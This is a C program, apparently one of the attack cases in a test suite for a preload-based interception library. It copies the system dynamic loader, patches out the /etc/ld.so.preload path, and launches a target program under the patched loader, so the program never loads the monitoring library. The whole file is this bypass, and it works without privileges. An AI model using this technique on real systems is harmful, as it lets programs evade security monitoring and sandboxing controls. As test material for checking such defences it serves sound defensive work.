/* A statically linked launcher that brings its own dynamic loader: a copy of the system's
 * ld.so in which the name /etc/ld.so.preload is changed, so that the program it starts (plain,
 * beside it) never loads the interception library. Nothing needs privileges: the loader is just
 * a file a process can copy.
 *
 *   own-loader GIB        runs `plain GIB` under the copied loader */
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *system_loader = "/lib64/ld-linux-x86-64.so.2", *own = "/tmp/ld-own.so";
    const char preload[] = "/etc/ld.so.preload", elsewhere[] = "/nonexistent/x.pre";
    _Static_assert(sizeof preload == sizeof elsewhere, "same length, so the loader's layout is kept");
    int fd = open(system_loader, O_RDONLY);
    struct stat st;
    if (fd < 0 || fstat(fd, &st) != 0) {
        perror("attack: own-loader: opening the system's loader");
        return 1;
    }
    char *image = malloc((size_t)st.st_size);
    if (!image || read(fd, image, (size_t)st.st_size) != st.st_size) {
        perror("attack: own-loader: reading the loader");
        return 1;
    }
    close(fd);
    int patched = 0;
    for (off_t i = 0; i + (off_t)sizeof preload <= st.st_size; i++)
        if (memcmp(image + i, preload, sizeof preload) == 0) {
            memcpy(image + i, elsewhere, sizeof elsewhere);
            patched++;
        }
    int out = open(own, O_WRONLY | O_CREAT | O_TRUNC, 0755);
    if (!patched || out < 0 || write(out, image, (size_t)st.st_size) != st.st_size || close(out) != 0) {
        fprintf(stderr, "attack: own-loader: writing %s failed (%d names changed)\n", own, patched);
        return 1;
    }
    /* plain lives beside this program. */
    char self[PATH_MAX], plain[PATH_MAX + 8];
    ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
    if (n <= 0) return 1;
    self[n] = 0;
    *strrchr(self, '/') = 0;
    snprintf(plain, sizeof plain, "%s/plain", self);
    char *args[] = {(char *)own, plain, argc > 1 ? argv[1] : (char *)"1", NULL};
    execv(own, args);
    perror("attack: own-loader: exec");
    return 1;
}
